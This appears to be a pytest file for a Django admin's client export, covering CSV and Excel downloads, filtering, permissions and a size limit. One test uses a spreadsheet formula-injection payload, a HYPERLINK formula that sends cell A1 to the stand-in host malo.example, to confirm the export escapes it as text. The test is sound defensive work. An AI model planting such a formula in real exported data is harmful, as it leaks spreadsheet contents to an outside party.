"""Exportar CSV on the list: exactly the current query, all pages, as export_clients writes it."""

import csv
import io

import pytest
from django.core.management import call_command

from clients.transfer import XLSX_CONTENT_TYPE
from clients.views import ClientExportView

from .commands import XLSX_HEADER, xlsx_rows
from .factories import ClientFactory

pytestmark = pytest.mark.django_db

LIST_URL = "/administracion/clientes/"
EXPORT_URL = "/administracion/clientes/exportar/"


def downloaded(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="clientes.csv"'
    return b"".join(response.streaming_content).decode()


def test_the_list_links_the_export_with_its_query_but_not_its_page(manager_client):
    ClientFactory()
    html = manager_client.get(LIST_URL, {"name": "ñandú", "status": "active", "page": "2"})
    assert f'href="{EXPORT_URL}?name=%C3%B1and%C3%BA&amp;status=active"' in html.content.decode()


def test_export_has_every_matching_client_across_pages_in_the_command_format(manager_client):
    for code in range(1, 61):
        ClientFactory(code=code, name=f"Claro {code}", status="inactive" if code % 3 else "active")
    ClientFactory(code=99, name="Movistar", status="inactive")
    text = downloaded(manager_client.get(EXPORT_URL, {"name": "CLARO", "status": "inactive"}))
    lines = text.splitlines()
    assert len(lines) == 1 + 40  # header + the 40 inactive Claro clients, not just a page
    expected = io.StringIO()
    call_command("export_clients", "--status", "inactive", stdout=expected)
    assert [line for line in expected.getvalue().splitlines() if "Movistar" not in line] == lines


def test_names_a_spreadsheet_would_run_as_formulas_are_downloaded_as_text(manager_client):
    names = ['=HYPERLINK("http://malo.example/?"&A1;"Ver")', "+57 Móvil", "@Arroba", "'Normal"]
    for code, name in enumerate(names, start=1):
        ClientFactory(code=code, name=name)
    rows = csv.reader(io.StringIO(downloaded(manager_client.get(EXPORT_URL))))
    assert [name for _code, name, *_ in rows][1:] == [
        '\'=HYPERLINK("http://malo.example/?"&A1;"Ver")',
        "'+57 Móvil",
        "'@Arroba",
        "'Normal",  # Not a formula: as it is.
    ]


def test_an_invalid_query_exports_nothing_but_the_header(manager_client):
    ClientFactory()
    lines = downloaded(manager_client.get(EXPORT_URL, {"code": "abc"})).splitlines()
    assert lines == [
        "code,name,sla_optimal_seconds,sla_low_seconds,max_history_conversations,"
        "inactivity_alert_attempts,max_inactivity_seconds,status"
    ]


def test_export_needs_view_permission(client, make_user):
    assert client.get(EXPORT_URL)["Location"].startswith("/accounts/login/")
    client.force_login(make_user())
    assert client.get(EXPORT_URL).status_code == 403


# --- Exportar Excel (formato=xlsx) -------------------------------------------------------


def downloaded_workbook(response, tmp_path):
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="clientes.xlsx"'
    path = tmp_path / "clientes.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    return xlsx_rows(path)


def test_the_list_offers_excel_next_to_csv_with_its_query(manager_client):
    html = manager_client.get(LIST_URL, {"name": "ñandú", "page": "2"}).content.decode()
    assert f'href="{EXPORT_URL}?name=%C3%B1and%C3%BA"' in html
    assert f'href="{EXPORT_URL}?name=%C3%B1and%C3%BA&amp;formato=xlsx"' in html
    assert "Exportar Excel" in html


def test_excel_export_has_every_matching_client_across_pages(manager_client, tmp_path):
    for code in range(1, 31):
        ClientFactory(code=code, name=f"Claro {code}", status="inactive" if code % 3 else "active")
    ClientFactory(code=99, name="Movistar", status="inactive")
    query = {"name": "CLARO", "status": "inactive", "formato": "xlsx"}
    header, *rows = downloaded_workbook(manager_client.get(EXPORT_URL, query), tmp_path)
    assert header == XLSX_HEADER
    assert [row[0] for row in rows] == [code for code in range(1, 31) if code % 3]
    assert {row[7] for row in rows} == {"Inactivo"}


def test_excel_export_of_an_invalid_query_is_the_header_alone(manager_client, tmp_path):
    ClientFactory()
    response = manager_client.get(EXPORT_URL, {"code": "abc", "formato": "xlsx"})
    assert downloaded_workbook(response, tmp_path) == [XLSX_HEADER]


def test_an_unknown_format_is_the_default_csv(manager_client):
    ClientFactory()
    assert downloaded(manager_client.get(EXPORT_URL, {"formato": "pdf"})).startswith("code,name,")


def test_excel_export_needs_view_permission(client, make_user):
    client.force_login(make_user())
    assert client.get(EXPORT_URL, {"formato": "xlsx"}).status_code == 403


def test_a_query_too_large_for_an_excel_download_goes_back_to_the_list_and_says_why(
    manager_client, monkeypatch
):
    monkeypatch.setattr(ClientExportView, "xlsx_max_clients", 2)
    for code in range(1, 4):
        ClientFactory(code=code, name=f"Claro {code}")
    response = manager_client.get(EXPORT_URL, {"name": "claro", "formato": "xlsx"}, follow=True)
    assert response.redirect_chain == [(f"{LIST_URL}?name=claro", 302)]
    assert "La consulta encuentra más de 2 clientes" in response.content.decode()
    within = manager_client.get(EXPORT_URL, {"name": "claro 1", "formato": "xlsx"})
    assert within["Content-Type"] == XLSX_CONTENT_TYPE
